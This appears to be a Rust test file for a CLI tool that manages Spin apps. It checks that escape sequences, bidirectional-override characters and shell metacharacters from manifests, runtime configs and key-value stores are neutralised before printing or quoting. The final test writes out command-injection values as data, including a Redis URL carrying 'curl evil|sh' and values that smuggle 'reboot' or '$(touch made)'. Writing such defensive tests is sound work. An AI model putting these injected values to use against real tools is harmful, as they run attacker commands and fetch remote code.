//! What an app's files and stores hold does to a terminal what a text does, and what a
//! message says to run is safe to paste.

use crate::app::{App, Said};

/// What clears a screen, in both sets of control characters, and a line of its own.
const ESCAPE: &str = "\u{1b}[2J\u{9b}2J\u{7f}\r\nerror: forged";

/// The same in a TOML string.
const IN_TOML: &str = "\\u001b[2J\\u009b2J\\u007f\\r\\nerror: forged";

const DEPLOY: &str = "\n[adapters.spin.commands]\ndeploy = \"spin deploy\"\n";

/// Runs all that prints, and gives back what was said.
#[track_caller]
fn run_all(app: &App) -> String {
    let mut all = String::new();
    for arguments in [
        &["-v", "provision", "--dry-run"][..],
        &["-v", "provision"],
        &["-v", "config", "push", "--local", "--dry-run", "--prune"],
        &["-v", "config", "push", "--dry-run"],
        &["-v", "config", "push"],
        &["-v", "config", "diff"],
        &["-v", "config", "diff", "--local"],
        &["-v", "config", "diff", "--local", "--format", "json"],
        &["-v", "config", "validate"],
        &["-v", "config", "validate", "--format", "json"],
        &["-v", "kv", "set", "ada", "1"],
        &["-v", "kv", "get", "bob"],
        &["-v", "serve", "--no-build"],
        &["-v", "build"],
        &["-v", "deploy"],
    ] {
        for Said { stdout, stderr, .. } in [app.run(arguments), app.run_typed(arguments)] {
            for text in [&stdout, &stderr] {
                let mut controls = text.chars().filter(|c| c.is_control());
                assert!(controls.all(|c| c == '\n'), "{arguments:?}: {text:?}");
                let forged = text.contains("\nerror: forged");
                assert!(!forged, "{arguments:?}: {text}");
            }
            all += &stdout;
            all += &stderr;
        }
    }
    all
}

#[track_caller]
fn says(all: &str, part: &str) {
    assert!(all.contains(part), "no {part:?} in:\n{all}");
}

pub(crate) fn no_name_in_spin_toml_moves_the_cursor() {
    let name = "EDGEZERO__STORES__KV__VISITS__NAME";
    let app = App::new().with_variable(name, "moved");
    app.fake_spin("\u{1b}[2J", 0, "");
    let component = format!("component = \"{IN_TOML}\"\n");
    let secrets = "[stores.secrets]\nids = [\"s\"]\n";
    let manifest = app.read("edgezero.toml") + &component + DEPLOY + secrets;
    app.write("edgezero.toml", &manifest);
    app.edit("spin/spin.toml", "cloud-shop", IN_TOML);
    let id = format!("[component.\"{IN_TOML}\"]");
    app.edit("spin/spin.toml", "[component.shop]", &id);
    says(&run_all(&app), "Spin refuses the component id");

    app.edit("edgezero.toml", &component, "");
    let version = "spin_manifest_version = 2\n";
    app.write(
        "spin/spin.toml",
        &format!("{version}{id}\n[component.other]\n"),
    );
    run_all(&app);

    app.edit("spin/spin.toml", &id, "[component.x]");
    app.write("edgezero.toml", &manifest);
    says(&run_all(&app), "no component \"\\u{1b}[2J");

    // Spin takes any text for the app's name.
    let app = App::new();
    app.fake_spin("4.0.0", 0, "");
    app.write("edgezero.toml", &(app.read("edgezero.toml") + DEPLOY));
    app.edit("spin/spin.toml", "cloud-shop", IN_TOML);
    says(&run_all(&app), "of the app \\u{1b}[2J");
}

pub(crate) fn no_text_of_a_runtime_config_moves_the_cursor() {
    for stanza in [
        format!("type = \"redis\"\nurl = \"redis://u:p@{IN_TOML}\"\n"),
        format!("type = \"aws_dynamo\"\ntable = \"{IN_TOML}\"\n"),
        format!("type = \"{IN_TOML}\"\n"),
        format!("type = \"spin\"\npath = \"{IN_TOML}\"\n"),
        format!("type = \"spin\"\npath = \"../{IN_TOML}\"\n"),
        format!("\"{IN_TOML}\" = \"{IN_TOML}\n"),
    ] {
        let app = App::new();
        app.fake_spin("4.0.0", 0, "");
        let text: String = ["visits", "app_config"]
            .map(|label| format!("[key_value_store.{label}]\n{stanza}"))
            .concat();
        app.write("spin/runtime-config.toml", &text);
        run_all(&app);
    }
}

pub(crate) fn no_path_of_the_manifest_moves_the_cursor() {
    for key in ["crate", "manifest"] {
        let app = App::new();
        app.fake_spin("4.0.0", 0, "");
        app.write(
            "edgezero.toml",
            &format!("[app]\nname = \"shop\"\n[adapters.spin.adapter]\n{key} = \"{IN_TOML}\"\n"),
        );
        let all = run_all(&app);
        says(&all, "line 4");
        says(&all, "a control character");
    }
    let elsewhere = tempfile::tempdir().unwrap();
    let app = App::new();
    let target = elsewhere.path().join(ESCAPE);
    std::fs::create_dir(&target).unwrap();
    std::os::unix::fs::symlink(target, app.path("crates")).unwrap();
    says(&run_all(&app), "\\u{1b}[2J");
}

pub(crate) fn nothing_that_spin_says_moves_the_cursor() {
    let app = App::new();
    app.fake_spin("4.0.0", 1, &ESCAPE.replace('\n', ""));
    app.write("edgezero.toml", &(app.read("edgezero.toml") + DEPLOY));
    let said = app.run(&["config", "push"]).refused(&["\\u{1b}[2J"]);
    assert!(!said.stderr.contains('\u{1b}'), "{:?}", said.stderr);
}

pub(crate) fn no_key_of_a_store_moves_the_cursor_and_a_pipe_has_it_as_it_is() {
    let app = App::new();
    app.fake_spin("4.0.0", 0, "");
    app.run(&["kv", "set", "ada", "1"]).done();
    app.run(&["config", "push", "--local"]).done();
    let connection = rusqlite::Connection::open(app.path("spin/.spin/kv.db")).unwrap();
    for label in ["visits", "app_config"] {
        let insert = "INSERT INTO spin_key_value (store, key, value) VALUES (?1, ?2, x'00')";
        connection.execute(insert, [label, ESCAPE]).unwrap();
    }
    drop(connection);
    run_all(&app);
    let listed = app.run(&["kv", "list"]).done();
    assert_eq!(listed.stdout, format!("{ESCAPE}\nada\n"));
}

pub(crate) fn no_key_or_value_turns_the_direction_of_writing() {
    let app = App::new();
    for turn in ["\u{202e}", "\u{2066}", "\u{200f}", "\u{2028}"] {
        let key = format!("user{turn}gnp.exe");
        app.run(&["kv", "set", &key, &key]).done();
        for arguments in [&["kv", "list", "--values"][..], &["kv", "get", &key]] {
            let said = app.on_terminal(arguments, "").done();
            assert!(!said.stdout.contains(turn), "{:?}", said.stdout);
            assert!(said.stdout.contains("user\\u{20"), "{}", said.stdout);
        }
        let said = app.run(&["kv", "set", &key, "x"]).done();
        assert!(!said.stderr.contains(turn), "{:?}", said.stderr);
        let listed = app.run(&["kv", "list"]).done().stdout;
        assert_eq!(listed, format!("{key}\n"));
        app.run(&["kv", "delete", &key]).done();
    }
}

pub(crate) fn an_empty_key_is_seen() {
    let app = App::new();
    app.run(&["kv", "set", "ada", "1"]).done();
    let connection = rusqlite::Connection::open(app.path("spin/.spin/kv.db")).unwrap();
    let insert = "INSERT INTO spin_key_value VALUES ('visits', '', x'32')";
    connection.execute(insert, []).unwrap();
    let shown = |arguments| app.on_terminal(arguments, "").done().stdout;
    assert_eq!(shown(&["kv", "list"]), "\"\"\nada\n");
    assert_eq!(shown(&["kv", "list", "--values"]), "\"\" = 2\nada = 1\n");
    assert_eq!(app.run(&["kv", "list"]).done().stdout, "\nada\n");
}

pub(crate) fn what_a_message_says_to_run_is_quoted_for_sh() {
    for (stanza, command) in [
        (
            "type = \"redis\"\nurl = \"redis://h; curl evil|sh \"\n",
            "not a URL of a Redis server",
        ),
        (
            "type = \"redis\"\nurl = \"redis://h';$(touch made)'\"\n",
            "not a URL of a Redis server",
        ),
        (
            "type = \"redis\"\nurl = \"redis://h:6379/2\"\n",
            "redis-cli -u redis://h:6379/2 SET",
        ),
        (
            "type = \"redis\"\nurl = \"redis://h\\nreboot\"\n",
            "redis-cli -u redis://hreboot:6379/0 SET",
        ),
        (
            "type = \"aws_dynamo\"\nregion = \"r\"\ntable = \"t`reboot`\"\n",
            "--table-name 't`reboot`' --item",
        ),
    ] {
        let app = App::new();
        app.write(
            "spin/runtime-config.toml",
            &format!("[key_value_store.app_config]\n{stanza}"),
        );
        app.run(&["config", "push"]).refused(&[command]);
    }
    let app = App::new();
    app.fake_spin("4.0.0", 1, "No key value store found with label");
    app.write("edgezero.toml", &(app.read("edgezero.toml") + DEPLOY));
    app.edit("spin/spin.toml", "cloud-shop", "a; reboot");
    app.run(&["config", "push"])
        .refused(&["--app 'a; reboot' --store <store> app_config"]);
}
